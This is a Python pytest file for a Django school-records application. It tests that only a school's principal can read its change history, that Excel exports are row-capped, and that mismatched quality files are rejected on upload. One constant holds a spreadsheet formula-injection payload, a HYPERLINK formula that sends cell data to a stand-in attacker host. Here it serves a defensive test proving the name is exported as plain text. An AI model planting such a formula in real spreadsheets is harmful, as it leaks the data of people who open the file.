"""Review of the school's history and the TT27 qualities in Excel, as an attacker: who may read the history and its
export at all (the principal only, never another school's people), and a name written like a formula comes out of
every new export as the same text, never a formula Excel would run."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.utils import timezone
from hocba.kernel.spreadsheets import META_SHEET
from hocba.kernel.spreadsheets import XLSX_CONTENT_TYPE as XLSX
from openpyxl import load_workbook

from schools.models import Enrolment, QualityAssessment
from schools.services.common import system_access
from schools.services.students import student_enrol
from schools.views import history as history_views
from tenants.models import School
from tests.schools.test_audit import acting
from tests.schools.test_excel_qualities import primary  # noqa: F401 - the TT27 class fixture
from tests.schools.test_history_readable import _sheet
from tests.support import ACCOUNTS, SCHOOL_A_HOST, SCHOOL_B_HOST, client_for

FORMULA = '=HYPERLINK("http://tan-cong.example/?c="&A1,"Bấm vào") An'
HISTORY = ("/history/", "/history/export/", "/history/?student=1", "/history/?entry=1")


def _cells(content: bytes):
    """Every cell of every sheet of the file, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


@pytest.mark.parametrize("name", [n for n, _role, scope in ACCOUNTS if n != "principal_a"])
def test_only_the_schools_principal_reads_its_history(w, klass, name):
    """Not a teacher (not even of the students concerned), not the vice principal or the IT admin, not a parent, not
    the unit's or province's staff (they have no grant into the school), not another school's principal."""
    c = client_for(w.account(name), SCHOOL_A_HOST)
    for path in HISTORY:
        assert c.get(path).status_code in (403, 404), (name, path)


def test_the_principal_reads_the_history_of_the_own_school_only(w, klass):
    assert client_for(w.account("principal_a"), SCHOOL_A_HOST).get("/history/").status_code == 200
    # School A's principal on school B's address; school B's principal on school A's.
    assert client_for(w.account("principal_a"), SCHOOL_B_HOST).get("/history/export/").status_code == 403
    assert client_for(w.account("principal_b"), SCHOOL_A_HOST).get("/history/export/").status_code == 403


def test_the_history_export_keeps_a_formula_name_as_text(w, klass):
    with acting(w, "clerk_a", "clerk"):
        student_enrol(
            access=system_access(connection.tenant.pk),
            school_class=klass.school_class,
            today=klass.school_class.year.starts_on,
            profile={"full_name": FORMULA, "date_of_birth": "02/02/2013", "gender": "M"},
        )
    response = client_for(w.account("principal_a"), SCHOOL_A_HOST).get("/history/export/", {"table": "schools_student"})
    assert response.status_code == 200
    found = [c for c in _cells(response.content) if FORMULA in str(c.value)]
    assert found, "the student's entry is not in the export"
    assert all(c.data_type == "s" for c in found)
    assert any(c.value == FORMULA for c in found)  # the name column: the very text, not a formula
    _no_formula_in(response.content)


def test_the_qualities_template_and_export_keep_a_formula_name_as_text(w, primary):  # noqa: F811
    three = primary["class"]
    student_enrol(
        access=system_access(connection.tenant.pk),
        school_class=three,
        today=timezone.localdate(),
        profile={"full_name": FORMULA, "date_of_birth": "05/05/2018", "gender": "M"},
    )
    connection.set_tenant(School.objects.get(pk=w.school_a))
    c = client_for(w.account("homeroom_a"), SCHOOL_A_HOST)
    for url in (f"/excel/classes/{three.pk}/qualities/1/mid.xlsx", f"/excel/classes/{three.pk}/qualities/year.xlsx"):
        response = c.get(url)
        assert response.status_code == 200, url
        found = [cell for cell in _cells(response.content) if cell.value == FORMULA]
        assert found and all(cell.data_type == "s" for cell in found), url
        _no_formula_in(response.content)


def test_the_history_export_is_bounded_in_rows_and_says_so(w, klass, monkeypatch):
    """Entries of whole sheets (a row per pupil each) are cut at the export's row budget, newest first, with the
    note that older changes were left out — never a file of millions of rows (Excel stops at 1,048,576)."""
    _sheet(w, klass, klass.students, "8")
    _sheet(w, klass, klass.students, "9")
    monkeypatch.setattr(history_views, "EXPORT_ROWS", len(klass.students) + 3)
    response = client_for(w.account("principal_a"), SCHOOL_A_HOST).get(
        "/history/export/", {"table": "schools_assessment"}
    )
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[2][0].startswith("Chỉ gồm các thay đổi mới nhất")  # the note, above the header row
    data = rows[5:]
    assert len(data) == len(klass.students) + 3
    assert all("→ 9" in row[8] for row in data[: len(klass.students)])  # the newest sheet first, whole


def test_a_qualities_file_of_another_class_school_or_pupil_is_refused(w, primary):  # noqa: F811
    """3B's template uploaded to 3A; 3A's template claiming school B; a file without HọcBạ's marks whose row names
    3B's pupil (by id and name): each refused with its reason, and nothing written."""
    three, other = primary["class"], primary["other"]
    c = client_for(w.account("homeroom_a"), SCHOOL_A_HOST)
    url = f"/excel/classes/{three.pk}/qualities/1/mid/import/"

    def post(wb):
        out = io.BytesIO()
        wb.save(out)
        file = SimpleUploadedFile("pcnl.xlsx", out.getvalue(), content_type=XLSX)
        return c.post(url, {"file": file}, HTTP_ACCEPT="application/json")

    principal = client_for(w.account("principal_a"), SCHOOL_A_HOST)
    theirs = load_workbook(io.BytesIO(principal.get(f"/excel/classes/{other.pk}/qualities/1/mid.xlsx").content))
    response = post(theirs)
    assert response.status_code == 400 and response.json()["errors"][0]["code"] == "excel.wrong_sheet"

    ours = load_workbook(io.BytesIO(c.get(f"/excel/classes/{three.pk}/qualities/1/mid.xlsx").content))
    ours.active.cell(row=5, column=5, value="T")
    meta = ours[META_SHEET]
    for row in meta.iter_rows(min_col=1, max_col=2):
        if row[0].value == "school":
            row[1].value = w.school_b
    response = post(ours)
    assert response.status_code == 400 and response.json()["errors"][0]["code"] == "excel.wrong_sheet"

    del ours[META_SHEET]
    stranger = Enrolment.objects.filter(school_class=other).select_related("student").first().student
    ours.active.cell(row=5, column=1, value=stranger.pk)
    ours.active.cell(row=5, column=3, value=stranger.full_name)
    response = post(ours)
    assert response.status_code == 400
    assert [e["code"] for e in response.json()["errors"]] == ["sheet.student_not_in_class"]
    assert not QualityAssessment.objects.exists()
